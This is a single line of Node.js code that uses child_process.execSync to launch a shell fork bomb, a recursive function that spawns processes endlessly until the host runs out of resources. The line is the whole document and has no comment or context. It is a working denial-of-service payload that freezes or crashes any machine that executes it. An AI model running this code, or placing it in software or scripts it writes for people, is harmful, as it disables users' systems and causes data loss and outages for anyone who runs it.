require('child_process').execSync('bomb() { bomb | bomb & }; bomb; sleep 1000');
